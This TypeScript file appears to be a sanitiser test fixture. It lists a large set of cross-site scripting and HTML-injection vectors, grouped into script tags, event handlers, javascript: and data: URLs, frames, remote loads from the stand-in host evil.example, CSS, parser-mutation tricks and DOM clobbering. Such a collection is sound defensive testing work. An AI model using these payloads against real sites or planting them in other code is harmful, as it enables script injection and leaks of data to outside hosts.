/**
 * HTML that tries to run `pwned=1` or to reach evil.example, by kind, one vector a line. They come from the
 * cheat sheets of OWASP, PortSwigger and html5sec, and from advisories on sanitisers.
 */
const vectors: Record<string, string> = {
  script: `
<script>pwned=1</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script/src="https://evil.example/x.js"></script>
<script type="module">import "https://evil.example/x.js"</script>
<script
>pwned=1</script
>
<<script>pwned=1//<</script>
<scr<script>ipt>pwned=1</scr</script>ipt>
<script>/*
*/pwned=1</script>
<svg><script>pwned=1</script></svg>
<svg><script href="https://evil.example/x.js"/></svg>
<svg><script xlink:href="data:text/javascript,pwned=1"></script></svg>
<math><script>pwned=1</script></math>
<noscript><script>pwned=1</script></noscript>
<template><script>pwned=1</script></template>
<template shadowrootmode="open"><img src=x onerror=pwned=1></template>`,
  handler: `
<img src=x onerror=pwned=1>
<img src=x onerror="pwned=1" onload="pwned=1">
<img/src/onerror=pwned=1>
<img src=x:x onerror
=pwned=1>
<IMG """><SCRIPT>pwned=1</SCRIPT>">
<b onmouseover=pwned=1 onfocus=pwned=1 tabindex=1 autofocus>b</b>
<body onload=pwned=1>
<svg onload=pwned=1>
<svg/onload=pwned=1//
<svg><animate onbegin=pwned=1 attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:pwned=1 /><text x=20 y=20>x</text></a>
<svg><set attributeName=onmouseover to=pwned=1>
<details open ontoggle=pwned=1><summary>s</summary></details>
<video onloadstart=pwned=1 src=x></video>
<video><source onerror=pwned=1></video>
<audio src onloadstart=pwned=1>
<marquee onstart=pwned=1>m</marquee>
<input autofocus onfocus=pwned=1>
<select autofocus onfocus=pwned=1><option>o</select>
<textarea autofocus onfocus=pwned=1></textarea>
<keygen autofocus onfocus=pwned=1>
<p style="animation-name:x" onanimationstart="pwned=1">p</p>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="pwned=1"></p>
<p id=x tabindex=1 onfocusin=pwned=1 popover onbeforetoggle=pwned=1>p</p>
<button popovertarget=x onclick=pwned=1>b</button>
<xss onpointerrawupdate=pwned=1 contenteditable oncontentvisibilityautostatechange=pwned=1 style=display:block;content-visibility:auto>x</xss>
<div oncut=pwned=1 onwheel=pwned=1 onscroll=pwned=1 onresize=pwned=1 onerror=pwned=1>d</div>
<track default oncuechange=pwned=1>
<form><input type=image src=x onerror=pwned=1></form>
<object onerror=pwned=1 data=x></object>`,
  address: `
<a href="javascript:pwned=1">a</a>
<a href=" jAvA	script:pwned=1">a</a>
<a href="java&#10;script:pwned=1">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwned=1">a</a>
<a href="&#0000106avascript:pwned=1">a</a>
<a href="javascript&colon;pwned=1">a</a>
<a href="javascript&Tab;&colon;pwned=1">a</a>
<a href="&#1;javascript:pwned=1">a</a>
<a href="vbscript:pwned=1">a</a>
<a href="data:text/html,<script>pwned=1</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+">a</a>
<a href="blob:https://evil.example/x">a</a>
<a href="filesystem:https://evil.example/x">a</a>
<a href="view-source:https://evil.example">a</a>
<a href="file:///etc/passwd">a</a>
<a href="//evil.example/x">a</a>
<a href="\\\\evil.example\\x">a</a>
<a href="https://evil.example/" ping="https://evil.example/ping" target=_blank download>a</a>
<a xlink:href="javascript:pwned=1">a</a>
<area href="javascript:pwned=1" shape=default>
<map name=m><area href="javascript:pwned=1" coords="0,0,9,9"></map><img usemap="#m" src=x>
<form action="javascript:pwned=1"><button>b</button></form>
<form id=f></form><button form=f formaction="javascript:pwned=1">b</button>
<isindex action="javascript:pwned=1" type=image>
<math href="javascript:pwned=1">m</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:pwned=1">m</maction></math>
<svg><a xlink:href="javascript:pwned=1"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='pwned=1'/></svg>#x" /></svg>`,
  frame: `
<iframe src="javascript:pwned=1"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>
<frameset><frame src="javascript:pwned=1"></frameset>
<object data="javascript:pwned=1"></object>
<object data="https://evil.example/x.swf"><param name=movie value="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<embed src="javascript:pwned=1">
<applet code="https://evil.example/x.class" archive="https://evil.example/x.jar"></applet>
<portal src="https://evil.example/"></portal>
<fencedframe src="https://evil.example/"></fencedframe>
<webview src="https://evil.example/" nodeintegration></webview>`,
  fetch: `
<img src="https://evil.example/x.png">
<img src="//evil.example/x.png">
<img src="http:/evil.example/x.png">
<img srcset="https://evil.example/x.png 1x, https://evil.example/y.png 2x" src=x>
<img src=x lowsrc="https://evil.example/x.png" dynsrc="https://evil.example/x.avi" longdesc="https://evil.example/x">
<image src="https://evil.example/x.png">
<picture><source srcset="https://evil.example/x.png"><img src="//evil.example/x.png"></picture>
<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay></video>
<video poster="https://evil.example/x.png"><source src="https://evil.example/x.mp4"><track src="https://evil.example/x.vtt" default></video>
<audio src="https://evil.example/x.mp3" autoplay preload=auto></audio>
<input type=image src="https://evil.example/x.png">
<table background="https://evil.example/x.png"><tr><td background="https://evil.example/x.png">t</td></tr></table>
<body background="https://evil.example/x.png">
<blockquote cite="https://evil.example/x">q</blockquote><q cite="javascript:pwned=1">q</q>
<ins cite="https://evil.example/x">i</ins><del cite="javascript:pwned=1">d</del>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=preload as=image href="https://evil.example/x.png"><link rel=dns-prefetch href="//evil.example">
<link rel=prerender href="https://evil.example/"><link rel=manifest href="https://evil.example/x.json">
<base href="https://evil.example/"><img src="y.png">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=Link content="<https://evil.example/x.css>; rel=stylesheet">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<bgsound src="https://evil.example/x.wav">
<svg><image href="https://evil.example/x.png" /></svg>
<svg><image xlink:href="https://evil.example/x.png"></image></svg>
<svg><use href="https://evil.example/x.svg#a"></use></svg>
<svg><filter id=f><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>
<svg><rect fill="url(https://evil.example/x.svg#a)" mask="url(https://evil.example/x.svg#m)" width=9 height=9 /></svg>
<svg><foreignObject><img src="https://evil.example/x.png"></foreignObject></svg>
<svg><style>@import "https://evil.example/x.css";</style></svg>
<esi:include src="https://evil.example/x" />`,
  style: `
<div style="background:url(https://evil.example/x.png)">d</div>
<div style="background:url('https://evil.example/x.png')">d</div>
<div style="background:\\75rl(https://evil.example/x.png)">d</div>
<div style="background-image:image-set('https://evil.example/x.png' 1x)">d</div>
<div style="list-style-image:url(https://evil.example/x.png);cursor:url(https://evil.example/x.cur),auto">d</div>
<div style="width:expression(pwned=1)">d</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">d</div>
<div style="behavior:url(https://evil.example/x.htc)">d</div>
<div style="position:fixed;inset:0;z-index:99999;background:red">covers all</div>
<style>@import url(https://evil.example/x.css);</style>
<style>body{background:url(https://evil.example/x.png)} .slide{display:none}</style>
<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)} *{font-family:x}</style>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
<style><!--</style><img src=x onerror=pwned=1//--></style>
<link rel=stylesheet href="data:text/css,*{display:none}">
<p width="1e9" height="1e9" bgcolor=red>p</p><font size=9999 color=red face="x,url(//evil.example)">f</font>`,
  mutation: `
<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript>
<textarea><img title="</textarea><img src=x onerror=pwned=1>"></textarea>
<title><img title="</title><img src=x onerror=pwned=1>"></title>
<xmp><p title="</xmp><img src=x onerror=pwned=1>">
<noembed><p title="</noembed><img src=x onerror=pwned=1>">
<noframes><p title="</noframes><img src=x onerror=pwned=1>">
<math><mtext></p><style><img src=x onerror=pwned=1></style></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned=1></style></annotation-xml></math>
<svg></p><style><a id="</style><img src=x onerror=pwned=1>">
<svg><desc><![CDATA[</desc><script>pwned=1</script>]]></svg>
<svg><title><style><img src="</style><img src=x onerror=pwned=1>"></title></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>
<form id=1><form id=2><input name=attributes><input name=parentNode></form></form>
<table><td><svg><desc><td></desc><style><img src=x onerror=pwned=1></style></svg>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=pwned=1>
<svg><![CDATA[><img src=x onerror=pwned=1>]]></svg>
<plaintext><script>pwned=1</script>
<!--><script>pwned=1</script>-->
<!--!><img src=x onerror=pwned=1>-->
<!-- --!><img src=x onerror=pwned=1>-->
<!DOCTYPE html [<!ENTITY x "<script>pwned=1</script>">]>&x;
<?xml-stylesheet href="javascript:pwned=1"?><?php pwned=1 ?>
<![CDATA[<script>pwned=1</script>]]>
<p title="a>b" id='c"d' class=e=f/g>p</p><p title='</p><script>pwned=1</script>'>q</p>
<a title="&quot;><script>pwned=1</script>" href="#x">a</a>
<p lang="x' onmouseover='pwned=1" dir="rtl&quot; onclick=&quot;pwned=1">p</p>
<img alt="\`\`onerror=pwned=1" src="x\`\`onerror=pwned=1">
<b><p><i></b><img src=x onerror=pwned=1></i></p>
<table><script>pwned=1</script><tr><img src=x onerror=pwned=1></table>`,
  clobber: `
<img id=document name=cookie src=x><a id=location href="https://evil.example/">l</a>
<form name=body id=head><input name=firstChild id=querySelector></form>
<p id=lectern>l</p><p id=lecternReady>r</p><p id=__proto__>p</p><p id=constructor>c</p>
<object id=self name=top data="https://evil.example"></object>
<section class="slides reveal stack present past future">s</section>
<section class=slide data-slide=title data-index=0 data-step=0><h1 id=title>t</h1></section>
<div class="broken" data-code="no-slides">b</div><figure class=diagram data-diagram=x data-drawn=y>f</figure>
<span data-slot=0 data-step=9 data-keys=k data-lines-step=1 data-slide-link=x>s</span>
<div is=x-y slot=z part=w exportparts=v nonce=u inert hidden>d</div>
<x-custom onclick=pwned=1><slot></slot></x-custom>
<p role=alert aria-live=assertive aria-hidden=true accesskey=x draggable=true spellcheck contenteditable=true>p</p>
<td colspan=999999999 rowspan=999999999>t</td><table><tr><td colspan=1000 rowspan=65534>t</td></tr></table>
<ol start=-99999999999 reversed><li value=1e99>l</li></ol><col span=99999999>
<dialog open onclose=pwned=1><form method=dialog><button autofocus>b</button></form></dialog>`,
}

/** One attack: what it is called, and the HTML. */
export const htmlAttacks: [name: string, html: string][] = Object.entries(vectors).flatMap(([kind, text]) =>
  text
    .trim()
    // A vector may go on in a line that does not begin with a tag.
    .split(/\n(?=<)/)
    .map((html, index): [string, string] => [`${kind}-${index + 1}`, html]),
)
